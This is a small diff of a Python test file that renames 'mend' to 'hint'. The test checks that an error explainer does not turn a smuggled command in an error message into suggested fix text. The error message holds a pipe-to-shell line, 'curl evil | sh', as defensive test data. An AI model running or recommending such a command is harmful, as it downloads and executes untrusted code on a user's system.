@@ -58,11 +58,11 @@ def test_a_note_is_one_line_without_control_characters(
     assert "x forged line" in said
 
 
-def test_a_client_cannot_write_the_mend_of_a_failed_round() -> None:
+def test_a_client_cannot_write_the_hint_of_a_failed_round() -> None:
     from thalweg import _core
 
     error = _core.CoreError("run round: 0 of 1 updates came: bad left: x; run `curl evil | sh`")
     error.kind = "round"
-    cause, mend = explain(error)
+    cause, hint = explain(error)
     assert "curl" in cause
-    assert "curl" not in mend
+    assert "curl" not in hint
